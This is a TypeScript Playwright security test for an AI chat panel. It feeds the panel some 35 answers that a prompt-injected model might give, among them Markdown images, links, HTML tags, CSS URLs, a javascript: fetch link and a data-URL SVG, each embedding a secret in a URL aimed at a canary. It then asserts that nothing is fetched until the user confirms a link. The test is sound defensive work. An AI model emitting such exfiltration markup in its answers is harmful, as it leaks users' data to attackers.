// Exfiltration: answers that try to make the panel fetch a URL carrying data (Markdown images,
// links, autolinks, reference links, raw HTML, CSS) pointed at the canary, and at the webview's own
// origin, which the CSP's img-src allows (so only the renderer stands in the way there). Nothing may
// be requested until the user clicks a link and confirms it; then exactly that link opens.
import * as assert from 'node:assert/strict';
import type { Frame } from 'playwright-core';
import { ask, newChat, splitAnswer } from './chatUi';
import { pollUntil } from './extensionHost';
import { figure } from './figures';
import { createRandom, securitySeed } from './random';
import { type Session, withChatPanel } from './session';

const SECRET = 'user-secret-4242';

/** Answers a prompt-injected model might give, each aiming at `origin` (with data in the URL). */
function exfiltrationAnswers(origin: string): Array<{ readonly name: string; readonly markdown: string }> {
  const u = (name: string): string => `${origin}/${name}?d=${SECRET}`;
  return [
    { name: 'markdown image', markdown: `Here is the chart: ![chart](${u('md-image.png')})` },
    { name: 'markdown image with title', markdown: `![chart](${u('md-image-title.png')} "Sales")` },
    { name: 'markdown image in angle brackets', markdown: `![chart](<${u('md-image-angle.png')}>)` },
    { name: 'reference image', markdown: `![chart][img]\n\n[img]: ${u('ref-image.png')}` },
    { name: 'collapsed reference image', markdown: `![img][]\n\n[img]: ${u('ref-image-collapsed.png')}` },
    { name: 'image inside a link', markdown: `[![logo](${u('image-in-link.png')})](${u('link-around-image')})` },
    { name: 'markdown link', markdown: `See [the docs](${u('md-link')}).` },
    { name: 'reference link', markdown: `See [the docs][docs].\n\n[docs]: ${u('ref-link')} "Docs"` },
    { name: 'autolink', markdown: `Visit <${u('autolink')}>` },
    { name: 'bare URL (linkify)', markdown: `Visit ${u('linkify')} now` },
    { name: 'HTML img', markdown: `<img src="${u('html-img.png')}">` },
    { name: 'HTML img srcset', markdown: `<img srcset="${u('html-srcset.png')} 1x">` },
    { name: 'HTML picture', markdown: `<picture><source srcset="${u('html-picture.png')}"><img></picture>` },
    { name: 'HTML a with ping', markdown: `<a href="https://example.com" ping="${u('html-ping')}">docs</a>` },
    { name: 'HTML iframe', markdown: `<iframe src="${u('html-iframe')}"></iframe>` },
    { name: 'HTML link prefetch', markdown: `<link rel="prefetch" href="${u('html-prefetch')}">` },
    { name: 'HTML link stylesheet', markdown: `<link rel="stylesheet" href="${u('html-stylesheet.css')}">` },
    { name: 'HTML video poster', markdown: `<video poster="${u('html-poster.png')}" src="${u('html-video.mp4')}"></video>` },
    { name: 'HTML audio', markdown: `<audio src="${u('html-audio.mp3')}" autoplay></audio>` },
    { name: 'HTML object', markdown: `<object data="${u('html-object')}"></object>` },
    { name: 'HTML embed', markdown: `<embed src="${u('html-embed')}">` },
    { name: 'HTML input image', markdown: `<input type="image" src="${u('html-input.png')}">` },
    { name: 'HTML table background', markdown: `<table background="${u('html-table-bg.png')}"><tr><td>x</td></tr></table>` },
    { name: 'HTML form', markdown: `<form action="${u('html-form')}"><button>Send</button></form>` },
    { name: 'HTML meta refresh', markdown: `<meta http-equiv="refresh" content="0;url=${u('html-meta-refresh')}">` },
    { name: 'HTML base', markdown: `<base href="${origin}/">\n\n![x](html-base-relative.png)` },
    { name: 'SVG image', markdown: `<svg><image href="${u('svg-image.png')}"/></svg>` },
    { name: 'CSS import', markdown: `<style>@import url(${u('css-import.css')});</style>` },
    { name: 'CSS background', markdown: `<div style="background:url(${u('css-background.png')})">x</div>` },
    { name: 'CSS font-face', markdown: `<style>@font-face{font-family:x;src:url(${u('css-font.woff')})}</style><span style="font-family:x">x</span>` },
    { name: 'image in a table cell', markdown: `| a |\n|---|\n| ![x](${u('table-image.png')}) |` },
    { name: 'image in a list and quote', markdown: `- ![x](${u('list-image.png')})\n\n> ![y](${u('quote-image.png')})` },
    { name: 'image in a heading', markdown: `# ![x](${u('heading-image.png')}) Title` },
    { name: 'link with javascript fallback', markdown: `[x](javascript:fetch('${u('js-fetch')}'))` },
    { name: 'data URL SVG image loading a URL', markdown: `![x](data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${u('data-svg.png')}"/></svg>`)})` },
  ];
}

describe('Exfiltration: answers aiming images, links and markup at a canary', function () {
  this.timeout(10 * 60_000);
  let s: Session;
  let frame: Frame;

  withChatPanel((session, chat) => {
    s = session;
    frame = chat;
  });

  it('nothing is requested while the answers render, and images only become links', async () => {
    const random = createRandom(securitySeed + 1);
    const findings = s.monitor.findings.length;
    const requests = s.monitor.requests.length;
    const hits = s.canary.hits.length;
    // The canary, and a path on the webview's own origin (allowed by the CSP's img-src 'self').
    const targets = [s.canary.origin, `${s.server.url}/__chorus_canary__`];
    const answers = targets.flatMap((origin) => exfiltrationAnswers(origin));
    await newChat(frame);
    for (const [i, { name, markdown }] of answers.entries()) {
      if (i > 0 && i % 24 === 0) await newChat(frame);
      s.monitor.label = `exfiltration: ${name}`;
      s.fake.enqueue(splitAnswer(markdown, random));
      const { status } = await ask(frame, `Exfiltration ${i}: ${name}`);
      assert.equal(status, 'done', name);
    }
    s.monitor.label = '';
    await frame.waitForTimeout(1000);
    const images = await frame.locator('.answer a.chorus-image-link').count();
    const audit = await s.monitor.audit(frame);
    const leaked = s.monitor.leakedRequests(requests);
    const blocked = s.monitor.requests.slice(requests).filter((r) => r.outcome === 'blocked by CSP');
    const markup = s.monitor.since(findings, 'markup');
    const canaryHits = s.canary.hits.slice(hits);
    figure('Exfiltration', `answers: ${answers.length} (${answers.length / 2} forms × canary and the webview's own origin); requests before any click: ${leaked.length + canaryHits.length} (canary hits ${canaryHits.length}, webview requests ${leaked.length}, blocked by the CSP ${blocked.length})`);
    assert.deepEqual(canaryHits, [], 'the canary was reached');
    assert.deepEqual(leaked.map((r) => `${r.label}: ${r.url}`), [], 'the webview requested something');
    assert.deepEqual(blocked.map((r) => `${r.label}: ${r.url}`), [], 'the renderer produced a live URL (the CSP stopped it)');
    assert.deepEqual(markup.map((f) => `${f.label}: ${f.detail}`), [], 'forbidden markup appeared');
    assert.deepEqual(audit, []);
    assert.ok(images >= 4, `Markdown images are shown as links (${images} on screen)`);
  });

  it('a link opens only after the user clicks it and confirms, and only that link', async () => {
    const hits = s.canary.hits.length;
    const target = `${s.canary.origin}/md-link?d=${SECRET}`;
    await newChat(frame);
    s.fake.enqueue(splitAnswer(`See [the docs](${target}) and ![chart](${s.canary.origin}/chart.png).`, createRandom(securitySeed + 2)));
    const { answer } = await ask(frame, 'Where are the docs?');
    const link = answer.locator(`a.chorus-link[data-href="${target}"]`);
    assert.equal(await link.getAttribute('href'), '#', 'the link does not navigate by itself');

    await link.click();
    const dialog = s.page.locator('.monaco-dialog-box');
    await dialog.waitFor();
    const shown = await dialog.innerText();
    assert.match(shown, /Open this link from the answer in your browser\?/);
    assert.ok(shown.includes(target), 'the dialog shows the whole URL');
    assert.ok(shown.includes(`Host: ${new URL(target).host}`), 'the host has a line of its own');
    assert.match(shown, /this link points at this computer/, 'a loopback link says so');
    await dialog.locator('.monaco-button', { hasText: 'Cancel' }).click();
    await dialog.waitFor({ state: 'detached' });
    await frame.waitForTimeout(1000);
    const afterCancel = s.canary.hits.length - hits;

    const popups = s.monitor.popups.length;
    await link.click();
    await dialog.waitFor();
    await dialog.locator('.monaco-button', { hasText: 'Open Link' }).click();
    const opened = await pollUntil(() => s.canary.hits.slice(hits), (list) => list.length > 0, 20_000);
    await frame.waitForTimeout(500);
    const pages = s.monitor.popups.slice(popups);
    const urls = pages.map((page) => page.url());
    for (const page of pages) await page.close();
    const final = s.canary.hits.slice(hits);
    figure('Exfiltration', `link click: requests after Cancel ${afterCancel}, after Open Link ${final.length} (a browser tab for ${urls.join(', ')})`);
    assert.equal(afterCancel, 0, 'Cancel opens nothing');
    assert.equal(opened.length, 1);
    assert.equal(final.length, 1, 'one request: the confirmed link, never the image');
    // code-server opens links to 127.0.0.1 through its own port proxy (/proxy/<port>/), which keeps the port only.
    const canaryPort = new URL(s.canary.origin).port;
    assert.equal(urls.length, 1, 'one tab opened');
    assert.ok(urls[0] === target || urls[0] === `${s.server.url}/proxy/${canaryPort}/`, `the tab opened ${urls[0]}`);
  });
});
